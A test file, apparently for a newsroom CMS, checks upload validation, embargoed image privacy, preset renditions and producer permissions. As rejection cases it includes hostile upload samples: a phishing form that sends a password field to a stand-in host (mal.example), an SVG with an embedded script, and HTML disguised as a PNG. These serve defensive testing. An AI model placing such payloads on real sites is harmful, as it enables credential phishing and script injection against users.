@@ -1,0 +1,167 @@
+/**
+ * Files against a hostile public (issue #10), by route then role: uploads are
+ * real images of at most 10 MB (by their bytes, not their name), renditions
+ * only by preset, and readers fetch only files published content uses —
+ * an embargoed story's photo stays private until the story is live.
+ */
+import sharp from 'sharp';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { UPLOAD_ERROR } from '../../domain/src/files.ts';
+import { admin, asEveryone, baseUrl, created, eventually, message, newsFactory, type Api, type Who } from './support.ts';
+
+let who: Record<Who, Api>;
+let jpeg: Buffer;
+let png: Buffer;
+let webp: Buffer;
+beforeAll(async () => {
+  who = await asEveryone();
+  const img = () => sharp({ create: { width: 64, height: 36, channels: 3, background: { r: 200, g: 30, b: 30 } } });
+  [jpeg, png, webp] = await Promise.all([img().jpeg().toBuffer(), img().png().toBuffer(), img().webp().toBuffer()]);
+});
+
+async function upload(api: Api, bytes: Buffer, filename: string, type: string, title = filename) {
+  const form = new FormData();
+  form.append('title', title);
+  form.append('file', new Blob([new Uint8Array(bytes)], { type }), filename);
+  const res = await fetch(`${baseUrl()}/files`, { method: 'POST', headers: api.token ? { authorization: `Bearer ${api.token}` } : {}, body: form });
+  const body = (await res.json().catch(() => ({}))) as { data?: { id: string; type: string }; errors?: Array<{ message: string }> };
+  return { status: res.status, data: body.data, message: body.errors?.[0]?.message };
+}
+
+const filesTitled = async (title: string) => (await admin().get(`/files?filter[title][_eq]=${encodeURIComponent(title)}&fields=id`)).data as unknown[];
+const asset = (id: string, query = '') => fetch(`${baseUrl()}/assets/${id}${query}`);
+
+describe('POST /files (upload matrix, as producer)', () => {
+  it.each([
+    ['JPEG', () => jpeg, 'foto.jpg', 'image/jpeg'],
+    ['PNG', () => png, 'foto.png', 'image/png'],
+    ['WebP', () => webp, 'foto.webp', 'image/webp'],
+  ])('accepts a real %s', async (_label, bytes, name, type) => {
+    const r = await upload(who.producer, bytes(), name, type);
+    expect(r.status).toBe(200);
+    expect(r.data?.type).toBe(type);
+  });
+
+  it('stores the type the bytes are, not the one declared', async () => {
+    const r = await upload(who.producer, png, 'na-verdade-png.jpg', 'image/jpeg');
+    expect(r.status).toBe(200);
+    const f = (await admin().get(`/files/${r.data!.id}?fields=type`)).data;
+    expect(f.type).toBe('image/png');
+  });
+
+  it('refuses a text file named .jpg sent as image/jpeg, and keeps nothing of it', async () => {
+    const title = `falso-${Date.now()}`;
+    const r = await upload(who.producer, Buffer.from('isto não é uma imagem, é texto'), 'falso.jpg', 'image/jpeg', title);
+    expect(r.status).toBe(400);
+    expect(r.message).toBe(UPLOAD_ERROR);
+    expect(await filesTitled(title)).toEqual([]);
+  });
+
+  it.each([
+    ['an HTML page', '<!doctype html><form action="https://mal.example"><input name=senha></form>', 'entrar.html', 'text/html'],
+    ['an SVG with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'logo.svg', 'image/svg+xml'],
+    ['an HTML page sent as image/png', '<!doctype html><p>phishing</p>', 'pagina.png', 'image/png'],
+  ])('refuses %s', async (_label, text, name, type) => {
+    const title = `hostil-${Date.now()}-${name}`;
+    const r = await upload(who.editor, Buffer.from(text), name, type, title);
+    expect(r.status).toBeGreaterThanOrEqual(400);
+    expect(r.status).toBeLessThan(500);
+    expect(await filesTitled(title)).toEqual([]);
+  });
+
+  it('refuses a file over 10 MB', async () => {
+    const big = Buffer.concat([jpeg, Buffer.alloc(11 * 1024 * 1024)]);
+    const r = await upload(who.super_admin, big, 'grande.jpg', 'image/jpeg');
+    expect(r.status).toBe(413);
+  });
+
+  it('anonymous cannot upload', async () => {
+    expect((await upload(who.anonymous, jpeg, 'a.jpg', 'image/jpeg')).status).toBe(403);
+  });
+});
+
+describe('embargoed images', () => {
+  it("a draft's photo is private; public once published; private again when unpublished", async () => {
+    const file = await upload(who.producer, jpeg, 'exclusiva.jpg', 'image/jpeg', 'Foto exclusiva embargada');
+    expect(file.status).toBe(200);
+    const id = file.data!.id;
+    const news = created(await who.producer.post('/items/news', newsFactory({ status: 'pending', featured_image: `/api/assets/${id}` })));
+
+    // Embargoed: no download, no listing, no metadata.
+    expect((await asset(id)).status).toBe(403);
+    expect((await who.anonymous.get(`/files/${id}`)).status).toBe(403);
+    expect((await who.anonymous.get('/files')).status).toBe(403);
+
+    // Action: the editor publishes.
+    expect((await who.editor.patch(`/items/news/${news.id}`, { status: 'published' })).status).toBe(200);
+    await eventually(async () => (await asset(id)).status === 200);
+    const res = await asset(id);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('image/jpeg');
+    // Readers see what they need of it, never its title.
+    expect(Object.keys((await who.anonymous.get(`/files/${id}`)).data).sort()).toEqual(['filename_download', 'height', 'id', 'type', 'width']);
+
+    // Unpublished: private again.
+    expect((await who.editor.patch(`/items/news/${news.id}`, { status: 'archived' })).status).toBe(200);
+    await eventually(async () => (await asset(id)).status === 403);
+  });
+
+  it('a photo also used by another published story stays public when one of them is unpublished', async () => {
+    const id = (await upload(who.editor, jpeg, 'compartilhada.jpg', 'image/jpeg')).data!.id;
+    const a = created(await who.editor.post('/items/news', newsFactory({ status: 'published', featured_image: `/api/assets/${id}` })));
+    created(await who.editor.post('/items/news', newsFactory({ status: 'published', content: `<p>Veja</p><img src="/api/assets/${id}" alt="">` })));
+    await eventually(async () => (await asset(id)).status === 200);
+    expect((await who.editor.patch(`/items/news/${a.id}`, { status: 'draft' })).status).toBe(200);
+    // The flag is recomputed just after the write: watch it for a second; it must stay public.
+    for (let i = 0; i < 10; i++) {
+      expect((await asset(id)).status).toBe(200);
+      await new Promise((r) => setTimeout(r, 100));
+    }
+  });
+
+  it('a scheduled story keeps its photo private until its time', async () => {
+    const id = (await upload(who.editor, jpeg, 'agendada.jpg', 'image/jpeg')).data!.id;
+    const later = new Date(Date.now() + 3600_000).toISOString();
+    created(await who.editor.post('/items/news', newsFactory({ status: 'published', scheduled_at: later, featured_image: `/api/assets/${id}` })));
+    expect((await asset(id)).status).toBe(403);
+  });
+});
+
+describe('GET /assets renditions', () => {
+  let id: string;
+  beforeAll(async () => {
+    id = (await upload(who.editor, jpeg, 'publica.jpg', 'image/jpeg')).data!.id;
+    created(await who.editor.post('/items/news', newsFactory({ status: 'published', featured_image: `/api/assets/${id}` })));
+    await eventually(async () => (await asset(id)).status === 200);
+  });
+
+  it('serves the named presets', async () => {
+    const r = await asset(id, '?key=w400h225');
+    expect(r.status).toBe(200);
+    expect(r.headers.get('content-type')).toBe('image/webp');
+  });
+
+  it('refuses arbitrary sizes (they would fill the disk)', async () => {
+    for (const q of ['?width=333', '?width=10&height=10&quality=1', '?transforms=[["blur",5]]']) {
+      const r = await asset(id, q);
+      expect(r.status, q).toBeGreaterThanOrEqual(400);
+      expect(r.status, q).toBeLessThan(500);
+    }
+  });
+});
+
+describe('PATCH /files/:id (producer)', () => {
+  it('may describe an own file but never hand it to someone else', async () => {
+    const id = (await upload(who.producer, jpeg, 'minha.jpg', 'image/jpeg')).data!.id;
+    expect((await who.producer.patch(`/files/${id}`, { title: 'Nova legenda' })).status).toBe(200);
+    expect((await who.producer.patch(`/files/${id}`, { uploaded_by: who.editor.userId })).status).toBe(403);
+    expect((await who.producer.patch(`/files/${id}`, { portal_public: true })).status).toBe(403);
+    expect((await admin().get(`/files/${id}?fields=uploaded_by,portal_public`)).data).toEqual({ uploaded_by: who.producer.userId, portal_public: false });
+  });
+
+  it("cannot touch a colleague's file", async () => {
+    const id = (await upload(who.editor, jpeg, 'do-editor.jpg', 'image/jpeg')).data!.id;
+    expect((await who.producer.patch(`/files/${id}`, { title: 'x' })).status).toBe(403);
+    expect(message(await who.producer.patch(`/files/${id}`, { title: 'x' }))).toBeTruthy();
+  });
+});
